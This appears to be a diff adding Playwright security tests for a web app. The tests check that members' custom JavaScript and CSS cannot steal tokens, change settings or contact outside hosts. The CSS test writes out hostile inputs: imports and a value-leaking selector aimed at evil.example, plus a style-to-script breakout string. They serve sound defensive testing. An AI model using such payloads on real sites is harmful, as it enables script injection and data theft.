@@ -1,0 +1,137 @@
+import { readFileSync } from "node:fs";
+import type { APIRequestContext, Page } from "@playwright/test";
+import { expect, test } from "./fixtures.ts";
+import { beSignedIn, giveAppearance, giveLinks, type Member, newMember } from "./member.ts";
+
+const hostileCode = readFileSync(new URL("hostile-code.js", import.meta.url), "utf8").replace(/^\s*\/\/.*$/gm, "");
+const LONG_MS = 150_000;
+
+/** What somebody has that hostile code would like to change. */
+async function belongings(request: APIRequestContext, { token, id }: Member): Promise<unknown> {
+  const headers = { authorization: `Bearer ${token}` };
+  return [
+    await (await request.get("/v1/widget/link", { headers })).json(),
+    await (await request.get(`/v1/appearance/${id}`, { headers })).json(),
+    await (await request.get(`/v1/settings/${id}`, { headers })).json(),
+  ];
+}
+
+/** The app in another tab of the same browser, with a session, a cookie and a channel on which it tells its token. */
+async function openApp(page: Page, { email, password, token }: Member): Promise<Page> {
+  const app = await page.context().newPage();
+  await app.goto("/login");
+  await app.evaluate(
+    async ([user, secret]) => {
+      const body = JSON.stringify({ user });
+      await fetch("/users/login", { method: "POST", headers: { "content-type": "application/json" }, body });
+      const channel = new BroadcastChannel("app");
+      // oxlint-disable-next-line unicorn/require-post-message-target-origin -- because a channel has none
+      setInterval(() => channel.postMessage(secret), 100);
+    },
+    [{ email, password }, token] as const,
+  );
+  return app;
+}
+
+/** Waits until the code is through with all it tries, and answers what it got. */
+async function loot(page: Pick<Page, "locator">): Promise<unknown> {
+  const root = page.locator("html");
+  await expect(root).toHaveAttribute("data-got", /.*/, { timeout: LONG_MS });
+  expect(Number(await root.getAttribute("data-attacks"))).toBeGreaterThan(40);
+  return JSON.parse((await root.getAttribute("data-got"))!) as unknown;
+}
+
+function watchDialogs(page: Page): string[] {
+  const seen: string[] = [];
+  page.on("dialog", (dialog) => {
+    seen.push(dialog.type());
+    void dialog.dismiss();
+  });
+  page.on("download", (download) => seen.push(download.suggestedFilename()));
+  return seen;
+}
+
+test("custom JavaScript of a page gets nothing from a visitor who is signed in, nor from its owner", async ({
+  browser,
+  baseURL,
+  request,
+}) => {
+  test.setTimeout(LONG_MS * 2);
+  const [owner, viewer] = [await newMember(request), await newMember(request)];
+  for (const member of [owner, viewer]) await giveLinks(request, member, ["Shop"]);
+  await giveAppearance(request, viewer, {});
+  await giveAppearance(request, owner, { custom_js: hostileCode });
+
+  for (const victim of [viewer, owner]) {
+    const context = await browser.newContext({ baseURL: baseURL! });
+    const tab = await context.newPage();
+    await beSignedIn(tab, victim);
+    const app = await openApp(tab, victim);
+    const before = await belongings(request, victim);
+    const shown = watchDialogs(tab);
+    await tab.goto(`/${owner.username}`);
+    expect(await loot(tab)).toEqual({});
+    expect(shown).toEqual([]);
+    expect(await belongings(request, victim)).toEqual(before);
+    expect(await app.evaluate(() => localStorage.getItem("auth_token"))).toBe(victim.token);
+    await expect(tab.getByRole("link", { name: "Shop" })).toBeVisible();
+    await context.close();
+  }
+});
+
+test("custom JavaScript of a draft gets nothing from its editor", async ({ page, request }) => {
+  test.setTimeout(LONG_MS * 2);
+  const owner = await newMember(request);
+  await giveAppearance(request, owner, {});
+  await beSignedIn(page, owner);
+  await openApp(page, owner);
+  await page.goto("/login");
+  const before = await belongings(request, owner);
+  const shown = watchDialogs(page);
+  const { html } = (await (
+    await request.post("/v1/appearance/preview", {
+      headers: { authorization: `Bearer ${owner.token}` },
+      data: { custom_js: hostileCode, title: "A draft" },
+    })
+  ).json()) as { html: string };
+  await page.evaluate((draft) => {
+    const frame = document.createElement("iframe");
+    frame.setAttribute("sandbox", "allow-scripts");
+    frame.src = "/preview";
+    addEventListener("message", ({ source, data }: MessageEvent<{ kind?: string }>) => {
+      if (source === frame.contentWindow && data.kind === "halka-preview-ready")
+        frame.contentWindow!.postMessage({ kind: "halka-preview", html: draft }, "*");
+    });
+    document.body.replaceChildren(frame);
+  }, html);
+  const shell = page.frameLocator("iframe");
+  const draft = shell.frameLocator("iframe");
+  await expect(draft.getByRole("heading", { name: "A draft" })).toBeVisible();
+  expect(await loot(draft)).toEqual({});
+  expect(shown).toEqual([]);
+  expect(new URL(page.url()).pathname).toBe("/login");
+  expect(await page.evaluate(() => localStorage.getItem("auth_token"))).toBe(owner.token);
+  expect(await belongings(request, owner)).toEqual(before);
+});
+
+test("custom CSS draws, and ends no element, runs no script and asks no stranger", async ({ page, request }) => {
+  const owner = await newMember(request);
+  await giveAppearance(request, owner, {
+    custom_css: [
+      "@import url(https://evil.example/a.css);",
+      "@font-face{font-family:Evil;src:url(https://evil.example/f.woff2)}",
+      "h1{color:rgb(1,2,3);font-family:Evil,serif}",
+      `h2::before{content:"</style><script>document.documentElement.dataset.ran=1</script>"}`,
+      "body{background:url(http://evil.example/a.png)}",
+      "input[value^=a]{background:url(https://evil.example/leak?a)}",
+    ].join("\n"),
+  });
+  const asked: string[] = [];
+  page.on("request", (each) => each.method() === "GET" && asked.push(new URL(each.url()).host));
+  const answer = await page.goto(`/${owner.username}`);
+  await expect(page.getByRole("heading", { level: 1 })).toHaveCSS("color", "rgb(1, 2, 3)");
+  expect(await page.locator("html").getAttribute("data-ran")).toBeNull();
+  expect(new Set(asked)).toEqual(new Set([new URL(page.url()).host]));
+  expect(asked.length).toBeLessThanOrEqual(3);
+  expect(answer!.headers()["content-security-policy"]).not.toMatch(/sandbox|unsafe/);
+});
